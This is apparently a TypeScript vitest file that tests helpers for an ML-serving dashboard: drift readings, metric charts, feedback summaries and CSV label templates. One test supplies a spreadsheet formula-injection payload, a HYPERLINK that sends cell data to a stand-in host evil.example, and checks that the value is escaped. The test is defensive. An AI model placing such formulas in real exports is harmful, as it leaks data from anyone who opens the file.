import { describe, expect, it } from "vitest";
import { answerText, AWAIT_TRIES, driftReading, feedbackSummary, labelsTemplate, liveFigure, psiLevel, stillAwaited, type ServedRequest } from "./loop";

describe("closed loop helpers", () => {
  it("reads a PSI by the usual thresholds", () => {
    expect(psiLevel(0.05)).toBe("stable");
    expect(psiLevel(0.2)).toBe("shift");
    expect(psiLevel(0.3)).toBe("drift");
    expect(psiLevel(0.3, 0.1, 0.5)).toBe("shift");
  });

  it("reads no PSI of a report over fewer rows than its minimum", () => {
    const report = { available: true, rows: 3, min_rows: 100, warn: 0.1, alert: 0.25 };
    expect(driftReading(8.2, report)).toBe("too few rows");
    expect(driftReading(8.2, { ...report, rows: 100 })).toBe("drift");
    expect(driftReading(0.05, { ...report, rows: 2000 })).toBe("stable");
  });

  it("charts AUC and logloss per day on two axes", () => {
    const figure = liveFigure([{ day: "2026-12-01", labeled: 10, auc: 0.8, logloss: 0.4 },
                               { day: "2026-12-02", labeled: 5, auc: null, logloss: 0.5 }]);
    const [auc, logloss] = figure.data as { x: string[]; y: (number | null)[]; yaxis?: string }[];
    expect(auc.x).toEqual(["2026-12-01", "2026-12-02"]);
    expect(auc.y).toEqual([0.8, null]);
    expect(logloss.yaxis).toBe("y2");
  });

  it("sums up a feedback answer", () => {
    expect(feedbackSummary({ stored: 3, new: 2, replaced: 1, unknown_request_ids: ["x"], unknown_rows: [] }))
      .toBe("3 stored (2 new, 1 replaced); 1 unknown request ids");
  });

  it("says how many lines of a part-filled labels template were skipped", () => {
    expect(feedbackSummary({ stored: 2, new: 2, replaced: 0, unknown_request_ids: [], unknown_rows: [], blank_labels: 398 }))
      .toBe("2 stored (2 new, 0 replaced); 398 lines without a label skipped");
  });
});

describe("served requests", () => {
  const one: ServedRequest = { request_id: "req-1", time: "2026-12-07T02:00:00+00:00", version: "1", rows: 1, answers: [{ row: 0, label: "no", probability: 0.25 }] };
  const batch: ServedRequest = { request_id: 'a,"b"', time: null, version: "2", rows: 7, answers: [0, 1, 2, 3, 4].map((row) => ({ row, label: row % 2, probability: 0.5 })) };
  it("says a request's answer in a few words", () => {
    expect(answerText(one)).toBe("no (p 0.250)");
    expect(answerText(batch)).toBe("0, 1, 0, 1, 0, …");
  });
  it("makes a labels CSV to fill in, one line per served row", () => {
    expect(labelsTemplate([one, { ...batch, rows: 2 }])).toBe('request_id,row,label\nreq-1,0,\n"a,""b""",0,\n"a,""b""",1,\n');
  });
  it("keeps a request id a spreadsheet would run as a formula a text", () => {
    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2", "@SUM(1)", "\tx"];
    const csv = labelsTemplate(ids.map((request_id) => ({ ...one, request_id })));
    expect(csv).toBe('request_id,row,label\n"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",0,\n\'+1,0,\n\'-2,0,\n' +
                     "'@SUM(1),0,\n'\tx,0,\n");
  });
  it("waits for a request Try it just served until the prediction log holds it, a bounded number of asks", () => {
    expect(stillAwaited(null, "req-9", 0)).toBe(true);
    expect(stillAwaited([one], "req-9", 3)).toBe(true); // the log not written yet
    expect(stillAwaited([one], "req-1", 3)).toBe(false); // there: back to the slow poll
    expect(stillAwaited([one], "req-9", AWAIT_TRIES)).toBe(false); // never logged (a log share below 100%)
    expect(stillAwaited([one], null, 0)).toBe(false);
  });
});
